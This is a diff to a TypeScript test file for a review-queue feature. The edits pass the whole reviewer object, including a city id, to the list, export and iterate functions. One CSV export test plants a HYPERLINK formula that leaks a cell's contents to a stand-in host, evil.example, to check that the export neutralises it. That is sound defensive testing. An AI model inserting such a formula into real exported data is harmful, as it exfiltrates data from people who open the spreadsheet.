@@ -27,7 +27,7 @@ describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
   });
   afterAll(async () => db?.close());
 
-  const list = (params: Record<string, string>, pageSize?: number) => listReviewQueue(db.prisma, me.id, queueFilterSchema.parse(params), 100_000_00, pageSize);
+  const list = (params: Record<string, string>, pageSize?: number) => listReviewQueue(db.prisma, me, queueFilterSchema.parse(params), 100_000_00, pageSize);
 
   it("lists both kinds with counts per status", async () => {
     const all = await list({});
@@ -64,7 +64,7 @@ describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
   it("exports the queue as CSV with a hostile organisation name neutralised and the numbers left numbers", async () => {
     const hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
     await db.prisma.organisation.update({ where: { id: small.enterprise.organisation.id }, data: { nameZh: hostile } });
-    const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER" }, queueFilterSchema.parse({}), { format: "csv", labels: exportLabels("zh-CN") });
+    const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER", cityId: me.cityId! }, queueFilterSchema.parse({}), { format: "csv", labels: exportLabels("zh-CN") });
     // ignoreBOM: keep the byte-order mark in the text, to see that the file has one.
     const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
     expect(text.startsWith("\uFEFF")).toBe(true);
@@ -92,7 +92,7 @@ describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
   it("exports every matching row once, whatever the chunk size (a full last chunk included)", async () => {
     for (const chunk of [1, 2, 3]) {
       const ids: string[] = [];
-      for await (const rows of iterateReviewQueue(db.prisma, me.id, queueFilterSchema.parse({ sort: "amount-asc" }), 100_000_00, chunk)) ids.push(...rows.map((r) => r.id));
+      for await (const rows of iterateReviewQueue(db.prisma, me, queueFilterSchema.parse({ sort: "amount-asc" }), 100_000_00, chunk)) ids.push(...rows.map((r) => r.id));
       expect(ids).toEqual([training.id, small.claim.id, big.claim.id]);
     }
   });
